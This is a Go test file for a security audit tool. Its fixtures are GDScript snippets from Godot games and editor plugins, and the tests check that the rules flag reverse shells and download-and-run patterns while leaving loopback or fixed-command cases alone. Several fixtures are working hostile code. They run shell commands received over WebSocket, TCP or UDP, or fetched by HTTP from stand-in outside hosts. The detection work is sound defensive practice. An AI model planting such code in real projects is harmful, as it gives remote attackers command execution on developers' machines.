package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestGDScriptSocketRun: a GDScript file (a Godot game's script or a
// @tool editor plugin) that runs what a network peer sent with
// OS.execute, OS.execute_with_pipe or OS.create_process is a reverse
// shell however the peer is made (StreamPeerTCP, WebSocketPeer,
// PacketPeerUDP, a TCPServer's connection) and however the text travels
// (a constant host, a helper function, a parsed message): critical. A
// peer only to the loopback address, a fixed command run beside a
// connection and a plugin that runs a fixed local tool without network
// are not findings.
func TestGDScriptSocketRun(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	checkRule(t, "reverse-shell", map[string]systemCase{
		"hostile/websocket-packet-json": {map[string]string{"addons/sync/sync.gd": `@tool
extends EditorPlugin

var _ws := WebSocketPeer.new()

func _enter_tree() -> void:
	_ws.connect_to_url("wss://relay.example.net/editor")

func _process(_d: float) -> void:
	_ws.poll()
	while _ws.get_available_packet_count() > 0:
		var msg = JSON.parse_string(_ws.get_packet().get_string_from_utf8())
		var out := []
		OS.execute("bash", ["-lc", msg.cmd], out, true)
		_ws.send_text("".join(out))
`}, crit},
		"hostile/tcp-server-helper": {map[string]string{"tools/agent.gd": `extends Node

var _srv := TCPServer.new()
var _conn: StreamPeerTCP

func _ready():
	_srv.listen(9100)

func _process(_delta):
	if _srv.is_connection_available():
		_conn = _srv.take_connection()
	if _conn and _conn.get_available_bytes() > 0:
		var text := _conn.get_utf8_string(_conn.get_available_bytes())
		for cmd in text.split("\n", false):
			_run(cmd)

func _run(command: String) -> void:
	OS.create_process("/bin/sh", ["-c", command])
`}, crit},
		"hostile/udp-const-host": {map[string]string{"scripts/telemetry.gd": `extends Node
const HOST := "198.51.100.20"
const PORT := 4242
var udp := PacketPeerUDP.new()

func _ready():
	udp.set_dest_address(HOST, PORT)
	udp.put_packet("hello".to_utf8_buffer())

func _physics_process(_d):
	while udp.get_available_packet_count() > 0:
		var line: String = udp.get_packet().get_string_from_utf8()
		var r := OS.execute_with_pipe("/bin/sh", ["-c", line])
`}, crit},
		"benign/localhost-bridge": {map[string]string{"addons/bridge/bridge.gd": `@tool
extends Node
# the companion CLI on this machine drives the editor
const BRIDGE_HOST := "127.0.0.1"
var _peer := StreamPeerTCP.new()

func _ready():
	_peer.connect_to_host(BRIDGE_HOST, 6008)

func _process(_d):
	_peer.poll()
	if _peer.get_available_bytes() > 0:
		var line := _peer.get_utf8_string(_peer.get_available_bytes())
		var out := []
		OS.execute("/bin/sh", ["-c", line], out)
`}, none},
		"benign/fixed-command-beside-socket": {map[string]string{"addons/ci/ci.gd": `@tool
extends Node
var _peer := StreamPeerTCP.new()

func _ready():
	_peer.connect_to_host("ci.example.org", 7000)

func _process(_d):
	_peer.poll()
	if _peer.get_available_bytes() <= 0:
		return
	var msg := _peer.get_utf8_string(_peer.get_available_bytes()).strip_edges()
	if msg == "export":
		var out := []
		OS.execute("godot", ["--headless", "--export-release", "Linux", "build/game.x86_64"], out)
		_peer.put_data(("done " + str(out.size())).to_utf8_buffer())
`}, none},
		"benign/local-tool-no-network": {map[string]string{"addons/fmt/fmt.gd": `@tool
extends EditorPlugin

func _format(path: String) -> void:
	var out := []
	var code := OS.execute("gdformat", [ProjectSettings.globalize_path(path)], out, true)
	if code != 0:
		push_warning("".join(out))
`}, none},
	})
}

// TestGDScriptHTTPRun: a GDScript file that runs an HTTPRequest's answer
// (through the request_completed handler, Godot 3's connect by name, a
// lambda or an await) with OS.execute runs what the server sends:
// download-exec, critical; OS.shell_open of an answer is medium; a
// request to the loopback address and a fixed command after a request
// are not findings.
func TestGDScriptHTTPRun(t *testing.T) {
	crit, med, none := audit.Critical, audit.Medium, audit.SeverityNone
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/request-completed-handler": {map[string]string{"addons/tasks/tasks.gd": `@tool
extends Node
var _http := HTTPRequest.new()

func _ready():
	add_child(_http)
	_http.request_completed.connect(_on_done)
	_http.request("https://ops.example.net/task")

func _on_done(result: int, code: int, headers: PackedStringArray, body: PackedByteArray) -> void:
	var cmd := body.get_string_from_utf8()
	OS.execute("cmd.exe", ["/c", cmd], [], false)
`}, crit},
		"hostile/await-answer": {map[string]string{"scripts/update.gd": `extends Node

func update() -> void:
	var http := HTTPRequest.new()
	add_child(http)
	http.request("http://updates.example.com/next.sh")
	var res = await http.request_completed
	var script: String = res[3].get_string_from_utf8()
	OS.execute("/bin/sh", ["-c", script])
`}, crit},
		"hostile/godot3-connect-by-name": {map[string]string{"addons/ping/ping.gd": `tool
extends Node
var req = HTTPRequest.new()

func _ready():
	add_child(req)
	req.connect("request_completed", self, "_got")
	req.request("https://cfg.example.io/run")

func _got(result, code, headers, body):
	OS.execute("sh", ["-c", body.get_string_from_utf8()], true)
`}, crit},
		"medium/shell-open-login-url": {map[string]string{"addons/login/login.gd": `@tool
extends Node
var _http := HTTPRequest.new()

func start() -> void:
	add_child(_http)
	_http.request_completed.connect(func(result, code, headers, body):
		var data = JSON.parse_string(body.get_string_from_utf8())
		OS.shell_open(data.login_url))
	_http.request("https://accounts.example.com/device")
`}, med},
		"benign/localhost-http": {map[string]string{"addons/lsp/lsp.gd": `@tool
extends Node
const URL := "http://localhost:6005/actions"
var _http := HTTPRequest.new()

func _ready():
	add_child(_http)
	_http.request_completed.connect(_on_done)
	_http.request(URL)

func _on_done(_r, _c, _h, body):
	var action := body.get_string_from_utf8()
	OS.execute("/bin/sh", ["-c", action])
`}, none},
		"benign/version-check-then-fixed-command": {map[string]string{"addons/upd/upd.gd": `@tool
extends Node
var _http := HTTPRequest.new()

func _ready():
	add_child(_http)
	_http.request_completed.connect(_on_done)
	_http.request("https://api.example.com/releases/latest")

func _on_done(_r, code, _h, body):
	var latest: String = JSON.parse_string(body.get_string_from_utf8()).tag
	if code == 200 and latest != "v1.2.0":
		var out := []
		OS.execute("git", ["-C", ProjectSettings.globalize_path("res://addons/upd"), "pull", "--ff-only"], out)
		print(latest)
`}, none},
	})
}
